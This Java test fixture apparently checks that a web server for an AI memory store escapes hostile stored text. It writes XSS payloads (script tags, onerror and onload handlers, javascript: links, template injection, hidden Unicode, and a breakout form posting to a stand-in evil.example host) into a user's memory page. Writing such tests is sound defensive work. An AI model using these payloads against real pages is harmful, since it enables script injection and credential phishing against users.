package dev.rapport.server.web;

import dev.rapport.conversation.TurnId;
import dev.rapport.learn.MemoryStore;
import dev.rapport.page.Author;
import dev.rapport.page.Basis;
import dev.rapport.page.Kind;
import dev.rapport.page.Line;
import dev.rapport.page.LineDraft;
import dev.rapport.page.LineId;
import dev.rapport.page.Owner;
import dev.rapport.page.Page;
import dev.rapport.page.PageDiff;
import dev.rapport.page.Revision;
import dev.rapport.page.Sensitivity;
import dev.rapport.page.Source;
import dev.rapport.person.UserId;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;

/** A page no guard has looked at, as an old store or a broken one might hold it. */
final class HostilePage {
  /** Each would set {@code window.pwned}, break out of its element, or turn the words around it. */
  static final List<String> TEXTS =
      List.of(
          "<img src=x onerror=\"window.pwned=1\">",
          "<script>window.pwned=1</script>",
          "\"><svg onload=window.pwned=1>",
          "</button></li></ul><h1>Signed out</h1><form action=//evil.example><input>",
          "[a link](javascript:window.pwned=1) javascript:window.pwned=1",
          "\u202Eevil drawkcab\u2066 and \u200B\uFEFFhidden\u2060 words",
          "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1}");

  private HostilePage() {}

  /** Puts every text in every place of a page where words stand. */
  static void write(MemoryStore store, UserId user) {
    Page before = store.page(user);
    List<Line> lines = new ArrayList<>();
    for (String text : TEXTS) {
      int number = before.nextLine() + lines.size();
      LineDraft draft =
          new LineDraft(
              text,
              text,
              Owner.other(text),
              Basis.STATED,
              Kind.FACT,
              Sensitivity.ORDINARY,
              Instant.EPOCH,
              List.of(new Source(new TurnId("t" + number), "I said: " + text)));
      lines.add(Line.of(new LineId("l" + number), draft, Author.MODEL, false));
    }
    Page after = before.next(lines, before.nextLine() + lines.size());
    Revision revision =
        new Revision(
            after.revision(),
            Instant.EPOCH,
            new Revision.Cause(Revision.Kind.LEARNED, "by hand"),
            PageDiff.between(before, after),
            after);
    store.advance(
        user, new MemoryStore.Step(revision, List.of(), List.of(), MemoryStore.Purge.NOTHING));
  }
}
